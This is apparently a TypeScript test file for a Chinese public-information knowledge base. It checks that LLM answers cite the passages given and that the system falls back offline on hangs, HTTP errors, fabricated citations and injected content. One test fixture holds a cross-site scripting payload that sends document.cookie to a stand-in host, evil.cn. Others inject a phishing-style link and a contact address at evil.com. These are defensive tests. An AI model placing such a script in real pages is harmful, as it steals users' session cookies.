import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { loadConfig } from "../../src/config.js";
import { checkGrounded, UngroundedAnswerError } from "../../src/knowledge/llm-answer.js";
import { openKnowledgeBase } from "../../src/knowledge/knowledge-base.js";
import type { KnowledgeBase } from "../../src/knowledge/types.js";
import { type FakeChatResponse, type FakeOpenAI, startFakeOpenAI, stepOf } from "../helpers/fake-openai.js";

let fake: FakeOpenAI;
let dataDir: string;
let kb: KnowledgeBase;
const QUESTION = "公开依据需要写到具体条款吗？";

beforeAll(async () => {
  fake = await startFakeOpenAI();
  dataDir = fs.mkdtempSync(path.join(os.tmpdir(), "zwgk-llm-"));
  const config = loadConfig({
    DATA_DIR: dataDir,
    LLM_PROVIDER: "openai",
    LLM_BASE_URL: fake.baseUrl,
    LLM_MODEL: "fake-model",
    LLM_TIMEOUT_MS: "1500",
  });
  kb = await openKnowledgeBase({ config });
});
afterAll(async () => {
  await fake.close();
  fs.rmSync(dataDir, { recursive: true, force: true });
});

describe("answers with an OpenAI-compatible model", () => {
  it("returns the model's grounded answer, having sent it the numbered passages", async () => {
    fake.onChat(() => ({ content: "不需要写到具体条款，只需列出所依据的法规政策名称 [1]。" }));
    const r = await kb.ask(QUESTION);
    expect(r.mode).toBe("llm");
    expect(r.answer).toBe("不需要写到具体条款，只需列出所依据的法规政策名称 [1]。");
    const sent = fake.requests.at(-1)!;
    const system = String(sent.messages[0]!.content);
    expect(system).toContain("[1] 《");
    expect(system).toContain(r.citations[0]!.text);
    expect(sent.messages[1]!.content).toBe(QUESTION);
  });

  it("rejects an answer citing a passage that was not given, and answers extractively", async () => {
    fake.onChat(() => ({ content: "根据国务院令第999号第八条，必须写到条款 [7]。" }));
    const r = await kb.ask(QUESTION);
    expect(r.mode).toBe("extractive");
    expect(r.answer).not.toContain("999");
    expect(r.citations.map((c) => c.doc)).toContain("guangdong-faq");
  });

  it("rejects an answer that cites nothing", async () => {
    fake.onChat(() => ({ content: "当然需要，写得越细越好。" }));
    expect((await kb.ask(QUESTION)).mode).toBe("extractive");
  });

  it("falls back within the time limit when the model never answers", async () => {
    fake.onChat(() => ({ hang: true }));
    const started = Date.now();
    const r = await kb.ask(QUESTION);
    expect(r.mode).toBe("extractive");
    expect(r.abstained).toBe(false);
    expect(Date.now() - started).toBeLessThan(10_000); // bounded, not a speed figure
  });

  it("falls back when the endpoint returns an error or garbage", async () => {
    fake.onChat(() => ({ status: 500, body: "<html>Bad Gateway</html>" }));
    expect((await kb.ask(QUESTION)).mode).toBe("extractive");
    fake.onChat(() => ({ status: 200, body: "not json at all" }));
    expect((await kb.ask(QUESTION)).mode).toBe("extractive");
  });

  it("does not call the model for an off-topic question", async () => {
    const before = fake.requests.length;
    const r = await kb.ask("红烧肉怎么做好吃？");
    expect(r.abstained).toBe(true);
    expect(fake.requests.length).toBe(before);
  });
});

/** The answer step gets `answer`; the rewrite and rerank steps fail, so retrieval stays offline. */
const answerOnly = (answer: FakeChatResponse) => () => (b: Parameters<Parameters<FakeOpenAI["onChat"]>[0]>[0]) =>
  stepOf(b) === "answer" ? answer : { status: 500, body: "{}" };

describe("guards on the model's answer (one test per fault)", () => {
  const offline = async () => {
    fake.onChat(() => ({ status: 500, body: "{}" }));
    return kb.ask(QUESTION);
  };
  const faults: [string, FakeChatResponse][] = [
    ["a hang", { hang: true }],
    ["HTTP 500", { status: 500, body: "<html>Internal Server Error</html>" }],
    ["broken JSON", { status: 200, body: '{"id":"x","choices":[{"message":{"role":"assistant","content":"不需要 [1]' }],
    ["an HTML error page with status 200", { status: 200, body: "<!doctype html><html><body>502 Bad Gateway</body></html>" }],
    ["no citation", { content: "不需要写到具体条款。" }],
    ["a citation of a passage not given", { content: "不需要写到具体条款 [9]。" }],
    ["an answer of 1 MB ending in a citation", { content: `${"不需要写到具体条款。".repeat(100_000)} [1]` }],
    ["an injected link", { content: "不需要写到具体条款 [1]，详见 https://zwgk-help.example.com/login" }],
    ["an injected script", { content: "不需要写到具体条款 [1]<script>fetch('//evil.cn/'+document.cookie)</script>" }],
    ["an injected phone number", { content: "不需要写到具体条款 [1]，如有疑问请拨打 13912345678。" }],
    ["an injected e-mail address", { content: "不需要写到具体条款 [1]，材料发送到 help@evil.com。" }],
  ];
  it.each(faults)("answers offline on %s", async (_, fault) => {
    const expected = await offline();
    fake.onChat(answerOnly(fault)());
    const r = await kb.ask(QUESTION);
    expect(r.mode).toBe("extractive");
    expect(r.answer).toBe(expected.answer);
    expect(r.citations).toEqual(expected.citations);
  });

  it("strips harmless HTML from an answer and keeps it", async () => {
    fake.onChat(answerOnly({ content: "<p><b>不需要</b>写到具体条款 [1]</p>" })());
    const r = await kb.ask(QUESTION);
    expect(r.mode).toBe("llm");
    expect(r.answer).toBe("不需要写到具体条款 [1]");
  });

  it("keeps a link that the cited passage itself holds, numbering it as the answer's first source", async () => {
    const q = "城乡规划领域标准指引的网址";
    // the passages as the model is sent them, numbered in rank order
    const sent = (b: Parameters<Parameters<FakeOpenAI["onChat"]>[0]>[0]) =>
      String(b.messages[0]!.content).split(/\n(?=\[\d+\] 《)/).filter((p) => /^\[\d+\] 《/.test(p));
    const LINK = /https?:\/\/[\w./-]+/;
    let link = "";
    fake.onChat((b) => {
      if (stepOf(b) !== "answer") return { status: 500, body: "{}" };
      const passages = sent(b);
      const n = passages.findIndex((p) => LINK.test(p));
      link = LINK.exec(passages[n]!)![0];
      return { content: `原文见 ${link} [${n + 1}]` };
    });
    const r = await kb.ask(q, { top: 8 });
    expect(r.mode).toBe("llm");
    // (under a note saying whose list it is when the passage is one locality's)
    expect(r.answer.split("\n").at(-1)).toBe(`原文见 ${link} [1]`);
    expect(r.citations[0]!.text).toContain(link);
    // the same link cited to a passage that does not hold it is refused
    fake.onChat((b) => {
      if (stepOf(b) !== "answer") return { status: 500, body: "{}" };
      const other = sent(b).findIndex((p) => !p.includes(link));
      return { content: `原文见 ${link} [${other + 1}]` };
    });
    expect((await kb.ask(q, { top: 8 })).mode).toBe("extractive");
  });

  it("spends at most the one timeout on all the model's steps when every call hangs", async () => {
    fake.onChat(() => ({ hang: true }));
    const before = fake.requests.length;
    const started = Date.now();
    const r = await kb.ask(QUESTION);
    expect(r.mode).toBe("extractive");
    expect(fake.requests.slice(before).map(stepOf)).toEqual(["rewrite", "rerank", "answer"]);
    // three steps of 1.5 s each would take over 4.5 s; one shared budget ends near 1.5 s
    expect(Date.now() - started).toBeLessThan(3000);
  });
});

describe("checkGrounded", () => {
  it.each([
    ["答案 [1][2]", 2, true],
    ["答案 [3]", 2, false],
    ["答案 [0]", 2, false],
    ["没有出处的答案", 2, false],
    ["   ", 2, false],
  ])("%s with %i passages → accepted %s", (text, n, ok) => {
    if (ok) expect(checkGrounded(text, n)).toBe(text);
    else expect(() => checkGrounded(text, n)).toThrow(UngroundedAnswerError);
  });
});

describe("answers with Ollama", () => {
  it("returns the grounded answer of a model served by Ollama, and falls back when it hangs", async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "zwgk-ollama-"));
    try {
      const ollama = await openKnowledgeBase({
        config: loadConfig({ DATA_DIR: dir, LLM_PROVIDER: "ollama", LLM_BASE_URL: fake.ollamaUrl, LLM_MODEL: "qwen2.5:7b", LLM_TIMEOUT_MS: "1500" }),
      });
      fake.onChat(() => ({ content: "只需列出法规政策名称，不需给出具体条款 [1]。" }));
      const r = await ollama.ask(QUESTION);
      expect(r.mode).toBe("llm");
      expect(r.answer).toBe("只需列出法规政策名称，不需给出具体条款 [1]。");
      expect(fake.requests.at(-1)!.model).toBe("qwen2.5:7b");
      fake.onChat(() => ({ hang: true }));
      expect((await ollama.ask(QUESTION)).mode).toBe("extractive");
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
